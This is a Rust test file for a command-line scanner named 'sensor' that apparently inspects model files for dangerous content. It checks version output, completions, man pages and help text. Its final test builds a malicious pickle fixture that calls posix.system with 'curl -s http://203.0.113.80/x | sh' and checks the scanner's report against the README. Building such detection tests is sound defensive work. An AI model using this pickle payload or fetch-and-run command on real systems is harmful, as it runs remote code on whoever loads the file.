//! What the binary says of itself.

use crate::support::{file, sensor};

fn output(arguments: &[&str]) -> (Option<i32>, String) {
    let output = sensor().args(arguments).output().expect("the binary runs");
    (output.status.code(), String::from_utf8(output.stdout).expect("UTF-8"))
}

#[test]
fn the_version_names_abi_and_rules() {
    let (status, text) = output(&["--version"]);
    assert_eq!(status, Some(0));
    let rest =
        text.trim_end().strip_prefix(concat!("sensor ", env!("CARGO_PKG_VERSION"), " (ABI ")).expect("the version");
    let (abi, rules) = rest.split_once(", rules ").expect("the rules' revision");
    assert!(abi.parse::<u16>().is_ok(), "{text}");
    let revision = rules.strip_suffix(')').expect("its end");
    assert!(revision.len() == 12 && revision.bytes().all(|byte| byte.is_ascii_hexdigit()), "{text}");
}

#[test]
fn completions_and_manual_pages_are_written() {
    for shell in ["bash", "zsh", "fish"] {
        let (status, text) = output(&["completions", shell]);
        assert!(status == Some(0) && text.contains("doctor"), "{shell}: {text}");
    }
    let (status, page) = output(&["man", "scan"]);
    assert!(status == Some(0) && page.contains(".TH sensor-scan 1") && page.contains("fail\\-on"), "{page}");
    assert_eq!(output(&["man", "nonsense"]).0, Some(2));
}

#[test]
fn every_verb_has_help_with_examples() {
    for verb in ["scan", "pin", "verify", "rules", "run", "doctor", "status", "completions", "man"] {
        let (status, text) = output(&[verb, "--help"]);
        assert!(status == Some(0) && text.contains("Examples:"), "{verb}: {text}");
    }
}

#[test]
fn what_a_newcomer_asks_is_in_the_help_of_scan() {
    let (_, text) = output(&["scan", "--help"]);
    for answer in
        ["Exit status:", "Verdicts:", "safetensors", "not read", "--policy", "rules show", "pre-commit", "https://"]
    {
        assert!(text.contains(answer), "{answer} is missing in {text}");
    }
    assert!(text.lines().all(|line| line.chars().count() <= 120), "lines that wrap on a terminal");
    let (status, policy) = output(&["rules", "show", "policy"]);
    assert!(status == Some(0) && policy.contains("[[exceptions]]"), "{policy}");
    // The short form stays short.
    let (_, short) = output(&["scan", "-h"]);
    assert!(short.contains("Exit status:") && !short.contains("Verdicts:"), "{short}");
}

/// What the README shows of an attack is what is printed.
#[test]
fn the_readmes_report_is_a_real_one() {
    let readme = include_str!("../../README.md");
    let shown = readme.split_once("$ sensor scan --explain forest.pkl\n").expect("the example").1;
    let shown = shown.split_once("```").expect("its end").0;
    let folder = tempfile::tempdir().expect("a temporary folder");
    let command = b"curl -s http://203.0.113.80/x | sh";
    let pickle = [
        &b"\x80\x04\x95\x3d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x22"[..],
        command,
        b"\x94\x85\x94R\x94.",
    ];
    file(folder.path(), "forest.pkl", &pickle.concat());
    let ran = sensor().args(["scan", "--explain", "forest.pkl"]).current_dir(folder.path()).output().expect("it runs");
    assert_eq!(String::from_utf8_lossy(&ran.stdout), shown);
}
